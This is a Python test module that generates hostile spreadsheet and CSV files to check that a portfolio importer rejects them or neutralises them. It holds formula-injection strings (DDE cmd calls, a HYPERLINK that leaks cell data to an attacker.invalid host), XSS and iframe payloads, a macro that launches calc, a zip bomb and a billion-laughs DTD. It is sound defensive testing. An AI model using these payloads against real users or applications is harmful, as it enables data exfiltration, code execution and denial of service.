"""A corpus of bad and hostile portfolio files, generated (no binaries are checked in).

Each `HostileFile` builds its bytes and declares what the product must do with it: reject it
with an `ImportFileError` whose message says what is wrong and how to fix it (`Rejected`,
checked by key words), or accept it with the hostile content made harmless (`Accepted`, with
a check on the imported frame). `python tests/hostile/corpus.py DIR` writes the files to DIR
to try them by hand in the app or the command line.

Workbooks are assembled from their XML parts by hand, so each attack is exactly the one named:
a far-corner cell, an entity-expansion DOCTYPE, a part that inflates a thousandfold.
"""

from __future__ import annotations

import io
import math
import sys
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

import numpy as np
import pandas as pd

from diagnostics.sheets import limits
from diagnostics.sheets.safe_export import FORMULA_PREFIXES, escape_html, neutralise_frame

# Words a message uses when it tells the user what to do about the problem.
FIX_WORDS = (
    "save",
    "export",
    "remove",
    "split",
    "add",
    "choose",
    "check",
    "open",
    "use",
    "try",
    "upload",
    "delete",
    "keep",
    "ask",
    "copy",
    "reduce",
    "fill",
    "convert",
    "give",
    "put",
)


@dataclass(frozen=True)
class Rejected:
    """Refused with a message. `what`: groups of alternative key words, every group must
    appear (case-insensitive); one of `FIX_WORDS` must appear too (the how-to-fix half)."""

    what: tuple[tuple[str, ...], ...]

    def problems(self, message: str, filename: str) -> list[str]:
        text = message.replace(filename, "").lower()  # the name must not supply the words
        missing = [
            "/".join(group) for group in self.what if not any(w.lower() in text for w in group)
        ]
        if not any(w in text for w in FIX_WORDS):
            missing.append("a how-to-fix word (" + ", ".join(FIX_WORDS[:6]) + ", ...)")
        return missing


@dataclass(frozen=True)
class Accepted:
    """Imported: `rows` pilots, then `check(imported)` asserts the hostile part is harmless."""

    rows: int
    check: Callable[[object], None] | None = None


@dataclass(frozen=True)
class HostileFile:
    name: str
    description: str
    build: Callable[[], bytes]
    expect: Rejected | Accepted
    # Parsing it blindly can abort or exhaust a process: engine checks run in a child process.
    dangerous: bool = False
    tags: tuple[str, ...] = field(default=())


# Building blocks ---------------------------------------------------------------------------

HEADER = ("Project ID", "Project name", "Business unit", "Status", "Kick-off", "Pilot budget")
GOOD_ROWS = (
    ("AI-1", "Invoice matching assistant", "Finance", "Pilot", "2024-03-01", "120000"),
    ("AI-2", "Ticket routing model", "Customer Service", "In production", "2023-11-15", "80000"),
    ("AI-3", "Demand forecast engine", "Supply Chain", "Prototype", "2025-01-10", "45000"),
)


def csv_text(rows: Sequence[Sequence[object]], sep: str = ",") -> str:
    """Rows as csv text (quoting only what needs it)."""
    frame = pd.DataFrame([list(r) for r in rows])
    return frame.to_csv(index=False, header=False, sep=sep, lineterminator="\r\n")


def csv_bytes(rows: Sequence[Sequence[object]], encoding: str = "utf-8", sep: str = ",") -> bytes:
    return csv_text(rows, sep).encode(encoding)


def _column_letters(n: int) -> str:
    letters = ""
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _cell_xml(ref: str, value: object) -> str:
    if isinstance(value, tuple):  # ("formula", text, cached value)
        _, formula, cached = value
        return f'<c r="{ref}" t="str"><f>{escape(formula)}</f><v>{escape(cached)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'


def sheet_xml(
    rows: Sequence[Sequence[object]],
    *,
    dimension: str | None = None,
    doctype: str = "",
    extra_rows: str = "",
) -> str:
    parts = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', doctype]
    parts.append('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
    if dimension:
        parts.append(f'<dimension ref="{dimension}"/>')
    parts.append("<sheetData>")
    for i, row in enumerate(rows, 1):
        cells = "".join(
            _cell_xml(f"{_column_letters(j)}{i}", v) for j, v in enumerate(row, 1) if v != ""
        )
        parts.append(f'<row r="{i}">{cells}</row>')
    parts.append(extra_rows)
    parts.append("</sheetData></worksheet>")
    return "".join(parts)


_MAIN_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xlsx_bytes(sheet: str | bytes | None, *, macros: bool = False) -> bytes:
    """A minimal, valid workbook with one sheet "Pilots" holding `sheet` (its XML)."""
    main_type = _MACRO_TYPE if macros else _MAIN_TYPE
    overrides = [
        f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>',
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
    ]
    defaults = [
        '<Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
    ]
    if macros:
        defaults.append(
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(defaults + overrides)
        + "</Types>"
    )
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{_REL}"><sheets><sheet name="Pilots" sheetId="1" r:id="rId1"/></sheets>'
        "</workbook>"
    )
    vba_rel = (
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>'
        if macros
        else ""
    )
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
        f"{vba_rel}</Relationships>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", root_rels)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        if macros:
            archive.writestr("xl/vbaProject.bin", _vba_project())
        if sheet is not None:
            archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


def _vba_project() -> bytes:
    """An OLE container header followed by a macro's source text (never run, never parsed)."""
    magic = bytes.fromhex("d0cf11e0a1b11ae1")
    source = b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc.exe"\r\nEnd Sub\r\n'
    return magic + bytes(504) + source


def ods_bytes(rows: Sequence[Sequence[str]]) -> bytes:
    """A minimal OpenDocument spreadsheet (what LibreOffice saves by default)."""
    body = []
    for row in rows:
        cells = "".join(
            '<table:table-cell office:value-type="string">'
            f"<text:p>{escape(v)}</text:p></table:table-cell>"
            for v in row
        )
        body.append(f"<table:table-row>{cells}</table:table-row>")
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Pilots">'
        + "".join(body)
        + "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"),
            "application/vnd.oasis.opendocument.spreadsheet",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


# The hostile builders ------------------------------------------------------------------------


def _good_rows() -> list[tuple[object, ...]]:
    return [HEADER, *GOOD_ROWS]


def _zero() -> bytes:
    return b""


def _pdf_renamed() -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n" + bytes(range(256)) * 4


def _garbage() -> bytes:
    return np.random.default_rng(20261125).bytes(8192)


ACCENTED_ROWS = (
    ("AI-1", "Café assistant", "Finance", "Pilot", "2024-03-01", "€ 120k"),
    ("AI-2", "Zürich claims triage", "Opérations", "Live", "2024-05-01", "80000"),
)


def _cp1252() -> bytes:
    return csv_bytes([HEADER, *ACCENTED_ROWS], encoding="cp1252")


def _utf16() -> bytes:
    return csv_bytes([HEADER, *ACCENTED_ROWS], encoding="utf-16", sep="\t")


def _no_header() -> bytes:
    return csv_bytes(GOOD_ROWS)


def _duplicate_headers() -> bytes:
    rows = [
        ("Project name", "Project name", "Status", "Status"),
        ("Invoice matching assistant", "old name", "Pilot", "Live"),
        ("Ticket routing model", "old name 2", "Live", "Pilot"),
    ]
    return csv_bytes(rows)


def _header_only() -> bytes:
    return csv_bytes([HEADER])


def _blank_rows() -> bytes:
    return b",,,,\r\n,,,,\r\n , , , ,\r\n"


def _too_many_rows() -> bytes:
    rows = limits.MAX_ROWS + 1
    lines = "".join(f"{i},Pilot\n" for i in range(1, rows + 1))
    return ("Project ID,Status\n" + lines).encode()


def _too_many_columns() -> bytes:
    columns = 3000
    header = ",".join(f"Column {i}" for i in range(1, columns + 1))
    row = ",".join("x" for _ in range(columns))
    return f"{header}\n{row}\n{row}\n".encode()


def _oversize() -> bytes:
    # Over the upload cap, but under the row cap: the size is what must be refused.
    target = limits.MAX_UPLOAD_BYTES + 1024 * 1024
    line = "AI-{:06d}," + "Long description of a pilot " * 8 + ",Pilot\n"
    per_line = len(line.format(0))
    count = math.ceil(target / per_line)
    assert count < limits.MAX_ROWS, "the size test must not also be a row-count test"
    body = "".join(line.format(i) for i in range(count))
    return ("Project ID,Project name,Status\n" + body).encode()


def _unsupported_extension() -> bytes:
    return csv_bytes(_good_rows())


def _empty_sheet() -> bytes:
    return xlsx_bytes(sheet_xml([]))


def _claims_huge_dimension() -> bytes:
    return xlsx_bytes(sheet_xml(_good_rows(), dimension="A1:XFD1048576"))


def _far_corner_cell() -> bytes:
    corner = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return xlsx_bytes(sheet_xml(_good_rows(), extra_rows=corner))


ZIP_BOMB_MB = 96


def _zip_bomb() -> bytes:
    """A sheet part that inflates about a thousandfold: 96 MB from about 100 KB."""
    head, tail = sheet_xml([*_good_rows(), ("AI-4", "@@BOMB@@", "Finance", "Pilot", "", "")]).split(
        "@@BOMB@@"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        base = xlsx_bytes(None)
        with zipfile.ZipFile(io.BytesIO(base)) as source:
            for info in source.infolist():
                archive.writestr(info.filename, source.read(info.filename))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(head.encode())
            block = b"A" * (1 << 20)
            for _ in range(ZIP_BOMB_MB):
                part.write(block)
            part.write(tail.encode())
    return buffer.getvalue()


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol "lol">']
    previous = "lol"
    for level in range(1, 10):
        name = f"lol{level}"
        entities.append(f'<!ENTITY {name} "' + f"&{previous};" * 10 + '">')
        previous = name
    doctype = "<!DOCTYPE worksheet [" + "".join(entities) + "]>"
    rows = [*_good_rows(), ("AI-4", "&lol9;", "Finance", "Pilot", "", "")]
    xml = sheet_xml(rows, doctype=doctype).replace("&amp;lol9;", "&lol9;")
    return xlsx_bytes(xml)


def _encrypted() -> bytes:
    """A real password-protected workbook (ECMA-376 agile encryption in an OLE container)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(xlsx_bytes(sheet_xml(_good_rows())))).encrypt("s3cret", out)
    return out.getvalue()


def _macros() -> bytes:
    return xlsx_bytes(sheet_xml(_good_rows()), macros=True)


def _ods() -> bytes:
    return ods_bytes(_good_rows())


def _semicolon() -> bytes:
    return csv_bytes(_good_rows(), sep=";")


FORMULA_TEXTS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _formula_rows() -> list[tuple[object, ...]]:
    return [HEADER] + [
        (f"AI-{i}", text, "Finance", "Pilot", "2024-03-01", "1000")
        for i, text in enumerate(FORMULA_TEXTS, 1)
    ]


def _formulas_csv() -> bytes:
    return csv_bytes(_formula_rows())


def _formulas_xlsx() -> bytes:
    rows = _formula_rows()
    rows.append(
        (
            "AI-99",
            ("formula", 'HYPERLINK("http://attacker.invalid","Click me")', "Click me"),
            "Finance",
            "Pilot",
            "2024-03-01",
            ("formula", "1000*1000", "1000000"),
        )
    )
    return xlsx_bytes(sheet_xml(rows))


HTML_TEXTS = (
    '<script>alert("pwned")</script>',
    "<img src=x onerror=alert(1)>",
    "**bold** [click](javascript:alert(1)) :red[alarm]",
    '"><iframe src="https://attacker.invalid"></iframe>',
)


def _html_csv() -> bytes:
    rows = [HEADER] + [
        (f"AI-{i}", text, "<b>Finance</b>", "Pilot", "2024-03-01", "1000")
        for i, text in enumerate(HTML_TEXTS, 1)
    ]
    return csv_bytes(rows)


LONG_TEXT_CHARS = 200_000


def _long_strings() -> bytes:
    rows = [
        HEADER,
        ("AI-1", "Q" * LONG_TEXT_CHARS, "Finance", "Pilot", "2024-03-01", "1000"),
        ("AI-2", "Short name", "F" * 50_000, "Pilot", "2024-03-01", "1000"),
    ]
    return csv_bytes(rows)


DATE_TEXTS = (
    ("2024-03-01", pd.Timestamp("2024-03-01")),
    ("1 Mar 2024", pd.Timestamp("2024-03-01")),
    ("March 1, 2024", pd.Timestamp("2024-03-01")),
    ("45352", pd.Timestamp("2024-03-01")),  # an Excel day serial
    ("2024-03-01 14:30", pd.Timestamp("2024-03-01")),
    ("03/15/2024", None),  # month first: unambiguous, but either reading may be refused
    ("not a date", pd.NaT),
    ("31/02/2024", pd.NaT),  # 31 February does not exist
)


def _mixed_dates() -> bytes:
    rows = [HEADER] + [
        (f"AI-{i}", f"Pilot {i}", "Finance", "Pilot", text, "1000")
        for i, (text, _) in enumerate(DATE_TEXTS, 1)
    ]
    return csv_bytes(rows)


MONEY_TEXTS = (
    ("1.2M", 1_200_000.0),
    ("€ 120k", 120_000.0),
    ("$1,500", 1_500.0),
    ("abc", math.nan),
    ("free", math.nan),
    ("-5000", -5000.0),
    ("(1,000)", -1000.0),
)


def _bad_money() -> bytes:
    rows = [HEADER] + [
        (f"AI-{i}", f"Pilot {i}", "Finance", "Pilot", "2024-03-01", text)
        for i, (text, _) in enumerate(MONEY_TEXTS, 1)
    ]
    return csv_bytes(rows)


# Checks on accepted files ---------------------------------------------------------------------


def _names(imported) -> list[str]:
    return imported.frame["name"].tolist()


def _warnings(imported) -> str:
    return " ".join(imported.warnings).lower()


def _check_accented(imported) -> None:
    names = _names(imported)
    assert names == ["Café assistant", "Zürich claims triage"], names
    assert imported.frame["business_unit"].tolist() == ["Finance", "Opérations"]
    assert imported.frame["pilot_budget"].tolist() == [120_000.0, 80_000.0]
    assert imported.frame["stage"].tolist() == ["pilot", "production"]


def _check_good(imported) -> None:
    assert _names(imported) == [r[1] for r in GOOD_ROWS], _names(imported)
    assert imported.frame["stage"].tolist() == ["pilot", "production", "development"]
    assert imported.frame["pilot_budget"].tolist() == [120_000.0, 80_000.0, 45_000.0]


def _check_duplicates(imported) -> None:
    # The first "Project name" column is the name; the copy is kept, not merged into it.
    assert _names(imported) == ["Invoice matching assistant", "Ticket routing model"]
    assert imported.frame["stage"].tolist() == ["pilot", "production"]


def _assert_exports_inert(frame: pd.DataFrame) -> None:
    safe = neutralise_frame(frame)
    for value in safe["name"].dropna():
        assert not str(value).startswith(FORMULA_PREFIXES), value


def _check_formulas_csv(imported) -> None:
    names = _names(imported)
    # Kept as the text typed (whitespace around it may be trimmed), never evaluated.
    for text, name in zip(FORMULA_TEXTS, names, strict=True):
        assert name.strip() == text.strip(), (name, text)
    _assert_exports_inert(imported.frame)


def _check_formulas_xlsx(imported) -> None:
    names = _names(imported)
    # Formula cells are read as their saved result, never recomputed or followed.
    assert names[-1] in ("Click me", 'HYPERLINK("http://attacker.invalid","Click me")'), names[-1]
    assert imported.frame["pilot_budget"].tolist()[-1] == 1_000_000.0
    for text, name in zip(FORMULA_TEXTS, names, strict=False):
        assert name.strip() == text.strip(), (name, text)
    _assert_exports_inert(imported.frame)


def _check_html(imported) -> None:
    names = _names(imported)
    assert names == list(HTML_TEXTS), names  # kept as text, not stripped nor rendered
    assert set(imported.frame["business_unit"]) == {"<b>Finance</b>"}
    for name in names:
        escaped = escape_html(name)
        assert not set('<>"') & set(escaped), escaped


def _check_long(imported) -> None:
    name, unit = imported.frame["name"].iloc[0], imported.frame["business_unit"].iloc[1]
    assert 0 < len(name) <= limits.MAX_CELL_CHARS, len(name)
    assert set(name) == {"Q"}
    assert len(unit) <= limits.MAX_CELL_CHARS
    text = _warnings(imported)
    assert any(w in text for w in ("long", "cut", "characters", "shortened", "truncat")), text


def _check_dates(imported) -> None:
    starts = imported.frame["start_date"].tolist()
    for (text, expected), got in zip(DATE_TEXTS, starts, strict=True):
        if expected is None:
            assert pd.isna(got) or got == pd.Timestamp("2024-03-15"), (text, got)
        elif expected is pd.NaT:
            assert pd.isna(got), (text, got)
        else:
            assert got == expected, (text, got)
    assert "date" in _warnings(imported), imported.warnings


def _check_money(imported) -> None:
    budgets = imported.frame["pilot_budget"].tolist()
    for (text, expected), got in zip(MONEY_TEXTS, budgets, strict=True):
        if math.isnan(expected):
            assert math.isnan(got), (text, got)
        elif expected < 0:  # kept as the negative it is, or left out; flagged either way
            assert got == expected or math.isnan(got), (text, got)
        else:
            assert got == expected, (text, got)
    text = _warnings(imported)
    assert "negative" in text, imported.warnings
    assert any(w in text for w in ("budget", "money", "amount")), imported.warnings


# The corpus -----------------------------------------------------------------------------------

EMPTY = Rejected((("empty", "no data", "nothing"),))
NO_ROWS = Rejected((("no pilot", "no rows", "no data", "empty", "only a header", "only the"),))

CORPUS: tuple[HostileFile, ...] = (
    HostileFile("empty.csv", "a csv of zero bytes", _zero, EMPTY),
    HostileFile("zero-byte.xlsx", "an xlsx of zero bytes", _zero, EMPTY),
    HostileFile(
        "renamed-pdf.xlsx",
        "a PDF renamed to .xlsx",
        _pdf_renamed,
        Rejected((("xlsx", "excel", "workbook", "spreadsheet"),)),
    ),
    HostileFile(
        "binary-garbage.csv",
        "random bytes named .csv",
        _garbage,
        Rejected((("text", "binary", "encoding", "not a csv", "cannot be read"),)),
    ),
    HostileFile(
        "cp1252.csv",
        "a csv saved by Excel on Windows (cp1252)",
        _cp1252,
        Accepted(2, _check_accented),
    ),
    HostileFile(
        "utf16.csv", "a tab-separated UTF-16 text file", _utf16, Accepted(2, _check_accented)
    ),
    HostileFile(
        "no-header.csv",
        "data rows without a header row",
        _no_header,
        Rejected((("header", "column names", "headings"),)),
    ),
    HostileFile(
        "duplicate-headers.csv",
        "two columns with the same heading, twice",
        _duplicate_headers,
        Accepted(2, _check_duplicates),
    ),
    HostileFile("header-only.csv", "a header row and nothing else", _header_only, NO_ROWS),
    HostileFile("blank-rows.csv", "only separators and blanks", _blank_rows, NO_ROWS),
    HostileFile(
        "too-many-rows.csv",
        f"{limits.MAX_ROWS + 1:,} rows, one over the cap",
        _too_many_rows,
        Rejected(((f"{limits.MAX_ROWS:,}", str(limits.MAX_ROWS)), ("row",))),
        tags=("over-cap",),
    ),
    HostileFile(
        "too-many-columns.csv",
        "3,000 columns",
        _too_many_columns,
        Rejected(((f"{limits.MAX_COLUMNS:,}", str(limits.MAX_COLUMNS)), ("column",))),
        tags=("over-cap",),
    ),
    HostileFile(
        "over-25mb.csv",
        f"a csv just over the {limits.MAX_UPLOAD_MB} MB upload cap",
        _oversize,
        Rejected(((f"{limits.MAX_UPLOAD_MB} MB", f"{limits.MAX_UPLOAD_MB}MB"),)),
        tags=("over-cap",),
    ),
    HostileFile(
        "portfolio.pdf",
        "a file type we do not read",
        _unsupported_extension,
        Rejected((("xlsx",), ("csv",))),
    ),
    HostileFile("empty-sheet.xlsx", "a workbook whose only sheet is empty", _empty_sheet, NO_ROWS),
    HostileFile(
        "claims-huge-dimension.xlsx",
        "a sheet that claims A1:XFD1048576 but holds four rows",
        _claims_huge_dimension,
        Accepted(3, _check_good),
    ),
    HostileFile(
        "far-corner-cell.xlsx",
        "a cell at XFD1048576 (aborts the xlsx reader if parsed)",
        _far_corner_cell,
        Rejected((("1,048,576", "1048576", "XFD", "dimension", "too large", "too big"),)),
        dangerous=True,
    ),
    HostileFile(
        "zip-bomb.xlsx",
        f"a sheet part inflating about a thousandfold, to {ZIP_BOMB_MB} MB",
        _zip_bomb,
        Rejected((("compress", "unpack", "expand", "inflat", "zip", "bomb"),)),
        dangerous=True,
    ),
    HostileFile(
        "billion-laughs.xlsx",
        "an XML entity expansion (billion laughs) in the sheet",
        _billion_laughs,
        Rejected((("entit", "doctype", "dtd", "unsafe", "declaration"),)),
        dangerous=True,
    ),
    HostileFile(
        "password-protected.xlsx",
        "an encrypted workbook (password s3cret)",
        _encrypted,
        Rejected((("password", "encrypt", "protected"),)),
    ),
    HostileFile(
        "macros.xlsm",
        "a macro-enabled workbook with a vbaProject.bin (never run)",
        _macros,
        Accepted(3, _check_good),
    ),
    HostileFile("portfolio.ods", "an OpenDocument spreadsheet", _ods, Accepted(3, _check_good)),
    HostileFile(
        "semicolons.csv", "a csv separated by semicolons", _semicolon, Accepted(3, _check_good)
    ),
    HostileFile(
        "formulas.csv",
        "cells starting with =, +, -, @, tab and CR (DDE, HYPERLINK)",
        _formulas_csv,
        Accepted(len(FORMULA_TEXTS), _check_formulas_csv),
    ),
    HostileFile(
        "formulas.xlsx",
        "formula cells and formula-like text cells",
        _formulas_xlsx,
        Accepted(len(FORMULA_TEXTS) + 1, _check_formulas_xlsx),
    ),
    HostileFile(
        "html-script.csv",
        "HTML, script tags and Markdown in cells",
        _html_csv,
        Accepted(len(HTML_TEXTS), _check_html),
    ),
    HostileFile(
        "long-strings.csv",
        f"a {LONG_TEXT_CHARS:,}-character name",
        _long_strings,
        Accepted(2, _check_long),
    ),
    HostileFile(
        "mixed-dates.csv",
        "dates in eight spellings, two impossible",
        _mixed_dates,
        Accepted(len(DATE_TEXTS), _check_dates),
    ),
    HostileFile(
        "bad-money.csv",
        "negative, bracketed and non-numeric amounts",
        _bad_money,
        Accepted(len(MONEY_TEXTS), _check_money),
    ),
)

BY_NAME = {f.name: f for f in CORPUS}


def build_corpus(directory: Path, names: Sequence[str] | None = None) -> dict[str, Path]:
    """Write the corpus (or the named files) into `directory`; returns name -> path."""
    directory.mkdir(parents=True, exist_ok=True)
    written = {}
    for item in CORPUS:
        if names is not None and item.name not in names:
            continue
        path = directory / item.name
        if not path.exists():
            path.write_bytes(item.build())
        written[item.name] = path
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for name, path in build_corpus(target).items():
        print(f"{path.stat().st_size:>12,}  {name}  ({BY_NAME[name].description})")
